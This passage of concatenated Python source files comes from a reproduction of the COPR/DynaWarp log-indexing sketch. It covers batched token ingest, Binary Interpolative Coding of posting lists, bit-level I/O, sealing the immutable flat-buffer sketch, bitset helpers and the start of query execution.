            short_threshold=self.config.short_threshold,
        )

    # -- ingest --------------------------------------------------------------

    def add_tokens(self, tokens: Sequence[str | bytes], posting: int) -> None:
        """Index tokens (strings/bytes) into set ``posting``."""
        fps = fingerprint_tokens(tokens)
        self.add_fingerprints(fps, posting)

    def add_fingerprints(self, fps: np.ndarray, posting: int) -> None:
        self.mutable.add_many(fps, posting)
        self._ops_since_check += len(fps)
        if self._ops_since_check >= self._mem_check_interval:
            self._ops_since_check = 0
            if self.mutable.estimated_bytes() > self.config.memory_limit_bytes:
                self.flush_temp_segment()

    def add_tokens_many(
        self, token_lists: Sequence[Sequence[str | bytes]], postings: Sequence[int]
    ) -> None:
        """Batched :meth:`add_tokens`: one call for many (tokens, posting)
        pairs — state-identical to looping ``add_tokens``."""
        rows = [
            np.unique(fingerprint_tokens(toks))
            if len(toks)
            else np.empty(0, dtype=np.uint32)
            for toks in token_lists
        ]
        counts = np.fromiter((len(t) for t in token_lists), np.int64, count=len(token_lists))
        self.add_fingerprints_many(rows, counts, postings)

    def add_fingerprints_many(
        self,
        rows: Sequence[np.ndarray],
        raw_counts: np.ndarray,
        postings: Sequence[int],
    ) -> None:
        """Batched :meth:`add_fingerprints` — the bulk-ingest insert hook.

        ``rows[i]`` holds line ``i``'s sorted-unique fingerprints and
        ``raw_counts[i]`` its RAW token count (what ``_ops_since_check``
        advances by), so the memory-check cadence — and therefore every
        temp-segment flush point — lands on exactly the same line as the
        looped path, keeping sealed bytes identical.

        The win over looping: ``(fp, posting)`` pairs already inserted
        earlier in the batch are strict no-ops in ``MutableSketch.add``, so
        they are dropped up front with one vectorized first-occurrence scan
        instead of one Python call each.  The scan restarts after any
        temp-segment flush (the fresh mutable has seen nothing).
        """
        i = 0
        n = len(rows)
        while i < n:
            i = self._add_rows_until_flush(rows, raw_counts, postings, i)

    def _add_rows_until_flush(
        self,
        rows: Sequence[np.ndarray],
        raw_counts: np.ndarray,
        postings: Sequence[int],
        start: int,
    ) -> int:
        n = len(rows)
        lens = np.fromiter((rows[j].size for j in range(start, n)), np.int64, count=n - start)
        bounds = np.zeros(n - start + 1, dtype=np.int64)
        np.cumsum(lens, out=bounds[1:])
        keep: np.ndarray | None = None
        all_fps: np.ndarray | None = None
        if bounds[-1]:
            all_fps = np.concatenate([np.asarray(rows[j], dtype=np.uint32) for j in range(start, n)])
            posts = np.repeat(np.asarray(postings[start:], dtype=np.uint64), lens)
            keys = (posts << np.uint64(32)) | all_fps.astype(np.uint64)
            _, first = np.unique(keys, return_index=True)
            keep = np.zeros(int(bounds[-1]), dtype=bool)
            keep[first] = True
        interval = self._mem_check_interval
        limit = self.config.memory_limit_bytes
        for j in range(start, n):
            if keep is not None and all_fps is not None:
                sl = slice(int(bounds[j - start]), int(bounds[j - start + 1]))
                fresh = all_fps[sl][keep[sl]]
                if fresh.size:
                    self.mutable.add_many(fresh, int(postings[j]))
            self._ops_since_check += int(raw_counts[j])
            if self._ops_since_check >= interval:
                self._ops_since_check = 0
                if self.mutable.estimated_bytes() > limit:
                    self.flush_temp_segment()
                    return j + 1
        return n

    def flush_temp_segment(self) -> None:
        """§4.3: flush the mutable sketch to a temp immutable segment."""
        if self.mutable.n_tokens == 0:
            return
        buf = seal_mutable(self.mutable, temporary=True)
        self.temp_segments.append(ImmutableSketch.from_buffer(buf))
        self.mutable = self._new_mutable()

    # -- seal ------------------------------------------------------------------

    def merged_mutable(self) -> MutableSketch:
        """Merge temp segments + live mutable into one mutable sketch (§4.3)."""
        if not self.temp_segments:
            return self.mutable
        merged = self._new_mutable()
        for seg in self.temp_segments:
            # group temp-segment tokens by rank so each unique list decodes once
            by_rank: dict[int, list[int]] = {}
            for fp, rank in seg.iter_entries():
                by_rank.setdefault(rank, []).append(fp)
            for rank, fps in by_rank.items():
                postings = seg.decode_list(rank)
                for fp in fps:
                    merged.set_token_postings(fp, postings)
        for postings, fps in self.mutable.iter_groups():
            for fp in fps:
                merged.set_token_postings(fp, postings)
        return merged

    def seal(self) -> bytes:
        """Produce the final immutable sketch buffer."""
        merged = self.merged_mutable()
        buf = seal_mutable(merged, sig_bits=self.config.sig_bits, temporary=False)
        return buf

    def seal_reader(self) -> ImmutableSketch:
        return ImmutableSketch.from_buffer(self.seal())

    # -- queries -----------------------------------------------------------------

    def query_and(self, tokens: Sequence[str | bytes]) -> np.ndarray:
        """AND query across live mutable + temp segments (merged postings)."""
        # a batch matches if every token appears in it according to the union
        # of segments: tokens may be split across segments, so AND must be
        # evaluated on per-token unions.
        return _multi_segment_and([self.mutable, *self.temp_segments], tokens)

    def query_or(self, tokens: Sequence[str | bytes]) -> np.ndarray:
        res: set[int] = set()
        for seg in [self.mutable, *self.temp_segments]:
            res.update(query_or(seg, tokens).tolist())
        return np.asarray(sorted(res), dtype=np.int64)

    def estimated_bytes(self) -> int:
        return self.mutable.estimated_bytes() + sum(
            s.nbytes() for s in self.temp_segments
        )


def _multi_segment_and(
    segments: "Sequence[MutableSketch | ImmutableSketch]", tokens: Sequence[str | bytes]
) -> np.ndarray:
    """AND across tokens where each token's postings = union over segments."""
    from .hashing import fingerprint_tokens as _fpt
    from .immutable_sketch import ImmutableSketch as _Imm

    if len(tokens) == 0:
        return np.zeros(0, dtype=np.int64)
    if isinstance(tokens[0], (str, bytes)):
        fps = _fpt(tokens)
    else:
        fps = np.asarray(tokens, dtype=np.uint32)
    result: set[int] | None = None
    for fp in fps:
        union: set[int] = set()
        for seg in segments:
            if isinstance(seg, _Imm):
                union.update(seg.token_postings(int(fp)).tolist())
            else:
                union.update(seg.token_postings(int(fp)).tolist())
        result = union if result is None else (result & union)
        if not result:
            return np.zeros(0, dtype=np.int64)
    return np.asarray(sorted(result or set()), dtype=np.int64)


# Alias per DESIGN.md §0: COPR == DynaWarp.
DynaWarpSketch = CoprSketch
