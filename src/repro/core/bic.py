"""Binary Interpolative Coding (Moffat & Stuiver 2004) for posting lists.

Chosen by the paper (§4.2) for its best-in-class compression of clustered
posting lists (< 1 bit/posting on dense clusters).  Bit-aligned; decode speed
is explicitly a non-goal (each decoded posting triggers a batch decompression
that dwarfs the ~ns decode cost).

Encoding of a sorted, strictly-increasing list ``a`` within universe
``[lo, hi]``: encode the middle element within its feasible range with
truncated (minimal) binary, then recurse on both halves.  Empty ranges emit
nothing; runs that exactly fill their range emit nothing (the classic BIC
"dense range" freebie).
"""

from __future__ import annotations

import numpy as np

from typing import Sequence

from .bitio import BitReader, BitWriter


def _write_minbin(w: BitWriter, x: int, r: int) -> None:
    """Truncated binary code for x in [0, r), MSB-first."""
    if r <= 1:
        return
    k = (r - 1).bit_length()  # ceil(log2(r))
    u = (1 << k) - r  # number of short codewords
    if x < u:
        w.write_msb(x, k - 1)
    else:
        w.write_msb(x + u, k)


def _read_minbin(r: BitReader, rng: int) -> int:
    if rng <= 1:
        return 0
    k = (rng - 1).bit_length()
    u = (1 << k) - rng
    v = r.read_msb(k - 1)
    if v < u:
        return v
    return (v << 1 | r.read_bit()) - u


def bic_encode(
    postings: Sequence[int] | np.ndarray, lo: int, hi: int, writer: BitWriter | None = None
) -> BitWriter:
    """Encode sorted ``postings`` (strictly increasing ints in [lo, hi])."""
    a = list(postings)
    w = writer if writer is not None else BitWriter()
    # iterative midpoint recursion: stack of (start, end, lo, hi) half-open
    stack = [(0, len(a), lo, hi)]
    while stack:
        s, e, l, h = stack.pop()
        n = e - s
        if n == 0:
            continue
        if h - l + 1 == n:
            # the n values exactly fill [l, h] — nothing to emit
            continue
        m = s + n // 2
        v = a[m]
        left = m - s
        right = e - m - 1
        vlo = l + left
        vhi = h - right
        _write_minbin(w, v - vlo, vhi - vlo + 1)
        # push right first so left decodes first (stack order must mirror decode)
        stack.append((m + 1, e, v + 1, h))
        stack.append((s, m, l, v - 1))
    return w


def bic_decode(words: np.ndarray, bit_offset: int, count: int, lo: int, hi: int) -> np.ndarray:
    """Decode ``count`` postings from ``words`` starting at ``bit_offset``."""
    out = np.empty(count, dtype=np.int64)
    r = BitReader(words, bit_offset)
    stack = [(0, count, lo, hi)]
    while stack:
        s, e, l, h = stack.pop()
        n = e - s
        if n == 0:
            continue
        if h - l + 1 == n:
            out[s:e] = np.arange(l, h + 1)
            continue
        m = s + n // 2
        left = m - s
        right = e - m - 1
        vlo = l + left
        vhi = h - right
        v = vlo + _read_minbin(r, vhi - vlo + 1)
        out[m] = v
        stack.append((m + 1, e, v + 1, h))
        stack.append((s, m, l, v - 1))
    return out


def bic_decode_reader_end(words: np.ndarray, bit_offset: int, count: int, lo: int, hi: int) -> tuple[np.ndarray, int]:
    """Like :func:`bic_decode` but also returns the end bit position."""
    out = np.empty(count, dtype=np.int64)
    r = BitReader(words, bit_offset)
    stack = [(0, count, lo, hi)]
    while stack:
        s, e, l, h = stack.pop()
        n = e - s
        if n == 0:
            continue
        if h - l + 1 == n:
            out[s:e] = np.arange(l, h + 1)
            continue
        m = s + n // 2
        left = m - s
        right = e - m - 1
        vlo = l + left
        vhi = h - right
        v = vlo + _read_minbin(r, vhi - vlo + 1)
        out[m] = v
        stack.append((m + 1, e, v + 1, h))
        stack.append((s, m, l, v - 1))
    return out, r.pos
