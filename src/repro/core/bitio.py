"""Bit-granular I/O over uint64 word arrays.

Two access conventions coexist (both documented where used):

* **LSB-first field packing** (``BitWriter.write`` / ``read_field``): bit ``j``
  of a value lands at global bit ``offset + j``.  Used by the CSF rank codes
  and all fixed-width fields — a field is decoded with two word reads and a
  shift, which is what the Trainium probe kernel mirrors.
* **MSB-first sequential bits** (``BitWriter.write_msb`` / ``BitReader``):
  used only by the BIC codec, whose truncated-binary codes need the
  read-the-next-bit extension property.

Global bit ``k`` always lives in word ``k // 64`` at in-word position
``k % 64``.
"""

from __future__ import annotations

import numpy as np

#: per-byte bit-reversal table — lets ``write_msb`` land all bits with ONE
#: LSB-first ``write`` (reverse the n-bit string, then append) instead of n
#: single-bit writes.  Bit k of the reversed value sits at global bit
#: ``offset + k``, which is exactly where MSB-first streaming puts bit
#: ``n-1-k`` of the original value.
_REV8 = bytes(int(f"{i:08b}"[::-1], 2) for i in range(256))


def _bit_reverse(value: int, nbits: int) -> int:
    nbytes = (nbits + 7) >> 3
    v = (value & ((1 << nbits) - 1)) << (nbytes * 8 - nbits)
    return int.from_bytes(bytes(map(_REV8.__getitem__, v.to_bytes(nbytes, "big"))), "little")


class BitWriter:
    """Append-only bit sink backed by a growing python int-per-word list."""

    def __init__(self) -> None:
        self._words: list[int] = [0]
        self._nbits: int = 0

    def __len__(self) -> int:
        return self._nbits

    def _ensure(self, upto_bit: int) -> None:
        need_words = (upto_bit + 63) // 64
        while len(self._words) < need_words:
            self._words.append(0)

    def write(self, value: int, nbits: int) -> int:
        """LSB-first write of ``nbits`` bits of ``value``. Returns bit offset."""
        if nbits == 0:
            return self._nbits
        assert 0 <= nbits <= 64
        value &= (1 << nbits) - 1
        off = self._nbits
        self._ensure(off + nbits)
        w, b = off // 64, off % 64
        self._words[w] |= (value << b) & 0xFFFFFFFFFFFFFFFF
        spill = nbits - (64 - b)
        if spill > 0:
            self._words[w + 1] |= value >> (64 - b)
        self._nbits = off + nbits
        return off

    def write_msb(self, value: int, nbits: int) -> int:
        """MSB-first write: the first appended bit is the MSB of ``value``."""
        off = self._nbits
        if nbits == 0:
            return off
        if nbits <= 64:
            return self.write(_bit_reverse(value, nbits), nbits)
        for i in range(nbits - 1, -1, -1):  # pragma: no cover - BIC stays ≤17 bits
            self.write((value >> i) & 1, 1)
        return off

    def to_array(self) -> np.ndarray:
        return np.array(self._words, dtype=np.uint64)


def read_field(words: np.ndarray, offset: int, nbits: int) -> int:
    """LSB-first fixed-width field read (scalar)."""
    if nbits == 0:
        return 0
    w, b = offset // 64, offset % 64
    lo = int(words[w]) >> b
    if b + nbits > 64:
        lo |= int(words[w + 1]) << (64 - b)
    return lo & ((1 << nbits) - 1)


def read_fields(words: np.ndarray, offsets: np.ndarray, nbits: np.ndarray) -> np.ndarray:
    """Vectorized LSB-first field reads (≤ 57-bit fields).

    Reads an unaligned 64-bit window byte-addressed at ``offset // 8`` via a
    uint8 view, which sidesteps word-straddle shifts entirely.  This is the
    same two-load-one-shift pattern the Trainium probe kernel uses.
    """
    offsets = np.asarray(offsets, dtype=np.int64)
    nbits = np.asarray(nbits, dtype=np.uint64)
    assert int(nbits.max(initial=0)) <= 57
    bytes_view = words.view(np.uint8)
    # pad so the 8-byte window never runs off the end
    padded = np.concatenate([bytes_view, np.zeros(8, np.uint8)])
    byte_off = (offsets >> 3).astype(np.int64)
    bit_in = (offsets & 7).astype(np.uint64)
    gathered = np.stack([padded[byte_off + i] for i in range(8)], axis=-1)
    window = gathered.astype(np.uint64)
    vals = np.zeros(len(offsets), dtype=np.uint64)
    for i in range(8):
        vals |= window[..., i] << np.uint64(8 * i)
    vals >>= bit_in
    mask = np.where(
        nbits >= np.uint64(64),
        np.uint64(0xFFFFFFFFFFFFFFFF),
        (np.uint64(1) << nbits) - np.uint64(1),
    )
    return vals & mask


def pack_varwidth(values: np.ndarray, lengths: np.ndarray) -> tuple[np.ndarray, np.ndarray]:
    """Vectorized LSB-first packing of per-entry variable-width fields.

    Returns (u64 word array, per-entry absolute bit offsets).  Widths ≤ 63.
    """
    values = np.asarray(values, dtype=np.uint64)
    lengths = np.asarray(lengths, dtype=np.int64)
    assert int(lengths.max(initial=0)) <= 63
    offsets = np.zeros(len(values), dtype=np.int64)
    np.cumsum(lengths[:-1], out=offsets[1:])
    total_bits = int(lengths.sum())
    words = np.zeros(total_bits // 64 + 2, dtype=np.uint64)
    mask = (np.uint64(1) << lengths.astype(np.uint64)) - np.uint64(1)
    v = values & mask
    w = offsets >> 6
    sh = (offsets & 63).astype(np.uint64)
    with np.errstate(over="ignore"):
        np.bitwise_or.at(words, w, (v << sh) & np.uint64(0xFFFFFFFFFFFFFFFF))
        spill = sh.astype(np.int64) + lengths > 64
        if spill.any():
            np.bitwise_or.at(
                words,
                w[spill] + 1,
                v[spill] >> (np.uint64(64) - sh[spill]),
            )
    return words, offsets


def pack_fixed(values: np.ndarray, width: int) -> np.ndarray:
    """Vectorized LSB-first packing at a fixed field width (≤ 63 bits)."""
    values = np.asarray(values, dtype=np.uint64)
    words, _ = pack_varwidth(values, np.full(len(values), width, dtype=np.int64))
    return words


def unpack_fixed(words: np.ndarray, idx: np.ndarray, width: int) -> np.ndarray:
    """Vectorized read of fixed-width fields at entry indices ``idx``."""
    idx = np.asarray(idx, dtype=np.int64)
    return read_fields(words, idx * width, np.full(len(idx), width, dtype=np.int64))


class BitReader:
    """MSB-first sequential bit reader (BIC decode path)."""

    __slots__ = ("words", "pos")

    def __init__(self, words: np.ndarray, pos: int = 0) -> None:
        self.words = words
        self.pos = pos

    def read_bit(self) -> int:
        w, b = self.pos // 64, self.pos % 64
        self.pos += 1
        return (int(self.words[w]) >> b) & 1

    def read_msb(self, nbits: int) -> int:
        v = 0
        for _ in range(nbits):
            v = (v << 1) | self.read_bit()
        return v
