"""COPR/DynaWarp core: the paper's probabilistic MS-MMQ indexing structure."""

from .hashing import (
    fingerprint32,
    fingerprint_tokens,
    lcg64,
    lowbias32,
    postings_hash,
    postings_hash_single,
    postings_hash_update,
    signature32,
)
from .immutable_sketch import ImmutableSketch, seal
from .mphf import Mphf, build_mphf
from .mutable_sketch import MutableSketch, PostingList
from .query import (
    IntersectConsumer,
    PostingsConsumer,
    UnionConsumer,
    execute_queries,
    execute_query,
    query_and,
    query_or,
)
from .querylang import (
    And,
    Contains,
    Not,
    Or,
    Query,
    Regex,
    SearchResult,
    Source,
    Term,
    as_query,
    line_matcher,
    matches_line,
)
from .sketch import CoprSketch, DynaWarpSketch, SketchConfig

__all__ = [
    "And",
    "Contains",
    "CoprSketch",
    "DynaWarpSketch",
    "ImmutableSketch",
    "IntersectConsumer",
    "Mphf",
    "Not",
    "Or",
    "Query",
    "Regex",
    "SearchResult",
    "Source",
    "Term",
    "MutableSketch",
    "PostingList",
    "PostingsConsumer",
    "SketchConfig",
    "UnionConsumer",
    "as_query",
    "build_mphf",
    "execute_queries",
    "execute_query",
    "fingerprint32",
    "fingerprint_tokens",
    "lcg64",
    "line_matcher",
    "lowbias32",
    "postings_hash",
    "postings_hash_single",
    "postings_hash_update",
    "query_and",
    "query_or",
    "seal",
    "signature32",
]
