"""Immutable COPR/DynaWarp sketch (paper §3.3, §4.2).

Seal-time transformation of a :class:`~repro.core.mutable_sketch.MutableSketch`:

1. group tokens by (deduplicated) posting list; single-posting tokens get their
   lists materialized here (all token-map entries must reference a list);
2. rank lists by descending reference count — skewed references make the CSF
   rank codes short (most tokens reference rank 0/1/...);
3. build a BBHash MPHF over all token fingerprints;
4. CSF-encode ``minimal_hash → rank`` with sampled prefix sums;
5. store ``sig_bits`` signature bits per token (or the full 32-bit fingerprint
   for *temporary* segments, enabling the §4.3 merge);
6. BIC-encode posting lists in rank order into one bit sequence with per-rank
   offsets.

The whole sketch serializes to ONE flat buffer: a fixed header page holding
section offsets, then raw little-endian arrays.  Opening a reader is
zero-parse: ``np.frombuffer`` views, no deserialization (the mmap design of
§4.2); ``ImmutableSketch.open_mmap`` maps straight from disk.
"""

from __future__ import annotations

import mmap
import os
import struct
from dataclasses import dataclass
from typing import Iterator

import numpy as np

from .bic import bic_decode, bic_encode
from .bitio import BitWriter, pack_fixed, unpack_fixed
from .csf import Csf, build_csf
from .hashing import signature32
from .mphf import Mphf, build_mphf
from .mutable_sketch import MutableSketch

MAGIC = 0x31544B5352504F43  # "COPRSKT1"
VERSION = 1

_SECTIONS = [
    ("mphf_sizes", np.uint64),
    ("mphf_word_offsets", np.uint64),
    ("mphf_rank_offsets", np.uint64),
    ("mphf_words", np.uint64),
    ("mphf_samples", np.uint32),
    ("fb_keys", np.uint32),
    ("fb_vals", np.uint32),
    ("sigs", np.uint64),
    ("csf_lengths", np.uint8),
    ("csf_samples", np.uint64),
    ("csf_words", np.uint64),
    ("list_offsets", np.uint64),
    ("list_counts", np.uint32),
    ("list_words", np.uint64),
]

_HEADER_FIELDS = 8 + 2 * len(_SECTIONS)  # scalars + (offset, count) per section
_HEADER_BYTES = _HEADER_FIELDS * 8

#: section → storage component (see :meth:`ImmutableSketch.component_nbytes`)
_COMPONENT_OF = {
    "mphf_sizes": "mphf",
    "mphf_word_offsets": "mphf",
    "mphf_rank_offsets": "mphf",
    "mphf_words": "mphf",
    "mphf_samples": "mphf",
    "fb_keys": "mphf",
    "fb_vals": "mphf",
    "sigs": "signatures",
    "csf_lengths": "csf",
    "csf_samples": "csf",
    "csf_words": "csf",
    "list_offsets": "postings",
    "list_counts": "postings",
    "list_words": "postings",
}


@dataclass
class ImmutableSketch:
    """Reader over a sealed sketch buffer (zero-copy views)."""

    buf: bytes | memoryview | np.memmap
    n_tokens: int
    n_lists: int
    max_postings: int
    sig_bits: int
    arrays: dict[str, np.ndarray]
    _mphf: Mphf | None = None
    _csf: Csf | None = None

    # -- construction ----------------------------------------------------------

    @classmethod
    def from_buffer(cls, buf: "bytes | bytearray | memoryview | mmap.mmap") -> "ImmutableSketch":
        hdr = struct.unpack_from(f"<{_HEADER_FIELDS}Q", buf, 0)
        magic, version, n_tokens, n_lists, max_postings, sig_bits, _n_levels, _n_fb = hdr[:8]
        if magic != MAGIC:
            raise ValueError("bad magic — not a COPR sketch")
        if version != VERSION:
            raise ValueError(f"unsupported version {version}")
        arrays: dict[str, np.ndarray] = {}
        for i, (name, dt) in enumerate(_SECTIONS):
            off, cnt = hdr[8 + 2 * i], hdr[9 + 2 * i]
            arrays[name] = np.frombuffer(buf, dtype=dt, count=cnt, offset=off)
        return cls(
            buf=buf,
            n_tokens=int(n_tokens),
            n_lists=int(n_lists),
            max_postings=int(max_postings),
            sig_bits=int(sig_bits),
            arrays=arrays,
        )

    @classmethod
    def open_mmap(cls, path: "str | os.PathLike[str]") -> "ImmutableSketch":
        """mmap a sealed sketch file — opening touches only the header page."""
        mm = np.memmap(path, dtype=np.uint8, mode="r")
        return cls.from_buffer(memoryview(mm))

    # -- lazy sub-structures -----------------------------------------------------

    @property
    def mphf(self) -> Mphf:
        if self._mphf is None:
            a = self.arrays
            self._mphf = Mphf(
                n_keys=self.n_tokens,
                level_sizes=a["mphf_sizes"],
                level_word_offsets=a["mphf_word_offsets"],
                level_rank_offsets=a["mphf_rank_offsets"],
                words=a["mphf_words"],
                rank_samples=a["mphf_samples"],
                fallback_keys=a["fb_keys"],
                fallback_vals=a["fb_vals"],
            )
        return self._mphf

    @property
    def csf(self) -> Csf:
        if self._csf is None:
            a = self.arrays
            self._csf = Csf(
                n=self.n_tokens,
                lengths=a["csf_lengths"],
                samples=a["csf_samples"],
                words=a["csf_words"],
            )
        return self._csf

    # -- queries -------------------------------------------------------------------

    def probe(self, fps: np.ndarray) -> np.ndarray:
        """isPresent + acquireList for a batch: fingerprints → list rank or -1.

        Mirrors Algorithm 3's first phase; the jnp/Bass ``sketch_probe``
        kernels implement exactly this function.
        """
        fps = np.asarray(fps, dtype=np.uint32)
        idx = self.mphf.eval_batch(fps)
        ok = idx >= 0
        out = np.full(fps.shape, -1, dtype=np.int64)
        if not ok.any():
            return out
        ii = idx[ok]
        if self.sig_bits >= 32:
            expected = self.arrays["sigs"].view(np.uint32)[ii]
            match = expected == fps[ok]
        else:
            stored = unpack_fixed(self.arrays["sigs"], ii, self.sig_bits)
            match = stored == signature32(fps[ok], self.sig_bits).astype(np.uint64)
        ranks = self.csf.get_batch(ii[match])
        tmp = np.full(ii.shape, -1, dtype=np.int64)
        tmp[match] = ranks
        out[ok] = tmp
        return out

    def decode_list(self, rank: int) -> np.ndarray:
        """Decode the BIC posting list with the given rank."""
        off = int(self.arrays["list_offsets"][rank])
        cnt = int(self.arrays["list_counts"][rank])
        return bic_decode(self.arrays["list_words"], off, cnt, 0, self.max_postings - 1)

    def token_postings(self, fp: int) -> np.ndarray:
        r = int(self.probe(np.asarray([fp], dtype=np.uint32))[0])
        if r < 0:
            return np.zeros(0, dtype=np.int64)
        return self.decode_list(r)

    def iter_entries(self) -> Iterator[tuple[int, int]]:
        """Yield (fp, rank) for all stored tokens — temp-segment merge path.

        Requires full fingerprints (``sig_bits == 32``, §4.3).
        """
        assert self.sig_bits >= 32, "merging needs full fingerprints (temp segments)"
        fps = self.arrays["sigs"].view(np.uint32)[: self.n_tokens]
        ranks = self.csf.get_batch(np.arange(self.n_tokens, dtype=np.int64))
        yield from zip(fps.tolist(), ranks.tolist())

    def nbytes(self) -> int:
        return len(self.buf) if not isinstance(self.buf, memoryview) else self.buf.nbytes

    def section_nbytes(self) -> dict[str, int]:
        return {k: v.nbytes for k, v in self.arrays.items()}

    def component_nbytes(self) -> dict[str, int]:
        """Section bytes rolled up into the paper's §3.3 components.

        ``mphf`` (BBHash levels + fallback), ``signatures`` (per-token
        signature/fingerprint bits), ``csf`` (rank codes + samples) and
        ``postings`` (BIC-coded lists + offsets).  Sums to ``nbytes()`` minus
        the fixed header and inter-section alignment padding, so storage
        accounting built on this is *measured*, not estimated.
        """
        out = {"mphf": 0, "signatures": 0, "csf": 0, "postings": 0}
        for name, arr in self.arrays.items():
            out[_COMPONENT_OF[name]] += arr.nbytes
        return out


def seal(sketch: MutableSketch, *, sig_bits: int = 16, temporary: bool = False) -> bytes:
    """Serialize a mutable sketch into the immutable flat-buffer format."""
    groups = list(sketch.iter_groups())
    # rank by descending reference count (ties arbitrary, §3.3)
    groups.sort(key=lambda g: -len(g[1]))
    n_lists = len(groups)

    fps_all: list[int] = []
    ranks_all: list[int] = []
    for rank, (_postings, fps) in enumerate(groups):
        fps_all.extend(fps)
        ranks_all.extend([rank] * len(fps))
    fps_arr = np.asarray(fps_all, dtype=np.uint32)
    ranks_arr = np.asarray(ranks_all, dtype=np.uint64)

    mphf = build_mphf(fps_arr)
    n_tokens = mphf.n_keys
    assert n_tokens == len(fps_arr), "token fingerprints must be unique"

    # order values by minimal hash
    idx = mphf.eval_batch(fps_arr)
    assert (idx >= 0).all()
    values = np.zeros(n_tokens, dtype=np.uint64)
    values[idx] = ranks_arr
    csf = build_csf(values)

    eff_sig_bits = 32 if temporary else sig_bits
    if eff_sig_bits >= 32:
        sig_sorted = np.zeros(n_tokens, dtype=np.uint32)
        sig_sorted[idx] = fps_arr
        sigs = np.ascontiguousarray(sig_sorted).view(np.uint64) if n_tokens % 2 == 0 else np.concatenate([sig_sorted, np.zeros(1, np.uint32)]).view(np.uint64)
    else:
        sig_vals = np.zeros(n_tokens, dtype=np.uint64)
        sig_vals[idx] = signature32(fps_arr, eff_sig_bits).astype(np.uint64)
        sigs = pack_fixed(sig_vals, eff_sig_bits)

    # BIC-encode lists in rank order
    w = BitWriter()
    offsets = np.zeros(n_lists + 1, dtype=np.uint64)
    counts = np.zeros(n_lists, dtype=np.uint32)
    for rank, (postings, _fps) in enumerate(groups):
        offsets[rank] = len(w)
        counts[rank] = len(postings)
        bic_encode(postings.tolist(), 0, sketch.max_postings - 1, w)
    offsets[n_lists] = len(w)
    list_words = w.to_array()

    arrays = {
        "mphf_sizes": mphf.level_sizes,
        "mphf_word_offsets": mphf.level_word_offsets,
        "mphf_rank_offsets": mphf.level_rank_offsets,
        "mphf_words": mphf.words,
        "mphf_samples": mphf.rank_samples,
        "fb_keys": mphf.fallback_keys,
        "fb_vals": mphf.fallback_vals,
        "sigs": sigs,
        "csf_lengths": csf.lengths,
        "csf_samples": csf.samples,
        "csf_words": csf.words,
        "list_offsets": offsets,
        "list_counts": counts,
        "list_words": list_words,
    }

    parts: list[bytes] = []
    header: list[int] = [
        MAGIC,
        VERSION,
        n_tokens,
        n_lists,
        sketch.max_postings,
        eff_sig_bits,
        mphf.n_levels,
        mphf.fallback_keys.size,
    ]
    off = _HEADER_BYTES
    for name, dt in _SECTIONS:
        arr = np.ascontiguousarray(arrays[name], dtype=dt)
        pad = (-off) % 8
        off += pad
        parts.append(b"\x00" * pad)
        header.extend([off, arr.size])
        parts.append(arr.tobytes())
        off += arr.nbytes
    return struct.pack(f"<{_HEADER_FIELDS}Q", *header) + b"".join(parts)
