"""Packed-uint64 posting bitsets — the candidate-set representation.

A candidate set over posting ids ``[0, nbits)`` packs into
``ceil(nbits / 64)`` little-endian uint64 words (bit ``i`` of word ``i//64``
= posting ``i``).  The query pipeline keeps candidate sets in this form end
to end: posting lists decode into bitsets once (and are cached packed),
And/Or are single vectorized word ops, and Not is ``known_mask & ~x`` — the
complement is taken against the store's known-batch mask so sketch false
positives can never resurrect ids no batch owns.

The layout matches ``kernels/bitset_intersect`` (u32 words on device; a
uint64 word here is two adjacent device words, same little-endian bit
order), so ``kernels.ops.bitset_and_reduce`` can AND-fold these arrays on
the device without repacking.
"""

from __future__ import annotations

from typing import Iterable

import numpy as np


def bitset_words(nbits: int) -> int:
    """uint64 words needed for ``nbits`` posting ids."""
    return (max(0, int(nbits)) + 63) // 64


def empty_bits(nbits: int) -> np.ndarray:
    return np.zeros(bitset_words(nbits), dtype=np.uint64)


def ids_to_bits(ids: Iterable[int] | np.ndarray, nbits: int) -> np.ndarray:
    """Posting ids (any iterable of ints < nbits) → packed uint64 bitset."""
    w = bitset_words(nbits)
    mask = np.zeros(w * 64, dtype=bool)
    arr = np.asarray(
        ids if not isinstance(ids, (set, frozenset)) else list(ids), dtype=np.int64
    )
    if arr.size:
        mask[arr] = True
    return np.packbits(mask, bitorder="little").view(np.uint64)


def bits_to_ids(bits: np.ndarray) -> np.ndarray:
    """Packed bitset → sorted int64 posting ids."""
    return np.flatnonzero(
        np.unpackbits(bits.view(np.uint8), bitorder="little")
    ).astype(np.int64)


def popcount_bits(bits: np.ndarray) -> int:
    return int(np.bitwise_count(bits).sum())


def bits_and(a: np.ndarray, b: np.ndarray) -> np.ndarray:
    return a & b


def bits_or(a: np.ndarray, b: np.ndarray) -> np.ndarray:
    return a | b


def bits_not(a: np.ndarray, universe_mask: np.ndarray) -> np.ndarray:
    """Complement within the known-id universe (never invents unknown ids)."""
    return universe_mask & ~a


def frozen(bits: np.ndarray) -> np.ndarray:
    """Mark a bitset immutable (cached bitsets are shared across threads)."""
    bits.setflags(write=False)
    return bits
