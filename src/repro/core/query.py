"""Query execution (paper §4.4, Algorithm 3).

Works identically over mutable and immutable sketches; only ``isPresent`` /
``acquireList`` differ.  Consumers receive decoded posting lists (each unique
list decoded once) and may stop execution early — the boolean-AND consumer
stops as soon as its running intersection is empty.
"""

from __future__ import annotations

import numpy as np

from .hashing import fingerprint_tokens
from .immutable_sketch import ImmutableSketch
from .mutable_sketch import MutableSketch


class PostingsConsumer:
    """Algorithm 3's consumer interface."""

    def accept(self, postings: np.ndarray) -> None:  # pragma: no cover - interface
        raise NotImplementedError

    def should_stop(self) -> bool:
        return False


class UnionConsumer(PostingsConsumer):
    """OR semantics: union of all token posting lists."""

    def __init__(self) -> None:
        self.result: set[int] = set()

    def accept(self, postings: np.ndarray) -> None:
        self.result.update(postings.tolist())


class IntersectConsumer(PostingsConsumer):
    """AND semantics with early termination on empty intersection."""

    def __init__(self) -> None:
        self.result: set[int] | None = None

    def accept(self, postings: np.ndarray) -> None:
        s = set(postings.tolist())
        self.result = s if self.result is None else (self.result & s)

    def should_stop(self) -> bool:
        return self.result is not None and not self.result


def execute_query(sketch, tokens, consumer: PostingsConsumer) -> PostingsConsumer:
    """Algorithm 3 over either sketch type.

    ``tokens`` may be strings/bytes (fingerprinted here) or uint32 fps.
    """
    if len(tokens) == 0:
        return consumer
    if isinstance(tokens[0], (str, bytes)):
        fps = fingerprint_tokens(tokens)
    else:
        fps = np.asarray(tokens, dtype=np.uint32)

    if isinstance(sketch, ImmutableSketch):
        ranks = sketch.probe(fps)
        unique_ranks: list[int] = []
        seen: set[int] = set()
        for r in ranks.tolist():
